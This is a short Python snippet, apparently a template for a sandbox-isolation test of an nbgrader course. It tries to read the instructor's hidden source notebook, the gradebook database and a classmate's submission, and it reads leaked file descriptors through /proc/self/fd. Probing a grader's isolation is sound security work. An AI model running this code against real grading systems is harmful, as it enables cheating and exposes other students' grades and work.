# 1. Reading the hidden tests: walk up to the course root and print the source notebook,
#    the gradebook and a classmate's submission into this notebook's outputs.
import os
root = {ROOT!r}
print(f"uid={os.getuid()} pid={os.getpid()}")
here = os.getcwd()
while here != "/" and not os.path.exists(os.path.join(here, "nbgrader_config.py")):
    here = os.path.dirname(here)
for base in {here, root}:
    for rel in ("source/toy/toy.ipynb", "gradebook.db", "submitted/{VICTIM}/toy/toy.ipynb"):
        try:
            with open(os.path.join(base, rel), "rb") as fh:
                print(fh.read().decode("utf-8", "replace"))
        except OSError as exc:
            print("blocked:", exc)
# ... and through the file descriptors it inherited (/proc/self/fd links to files outside)
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if target.startswith("/") and not target.startswith(("/proc", "/dev", "/home/student")):
        print("inherited:", target)
        try:
            with open(f"/proc/self/fd/{fd}", "rb") as fh:
                print(fh.read()[-2000:].decode("utf-8", "replace"))
        except OSError as exc:
            print("blocked:", exc)
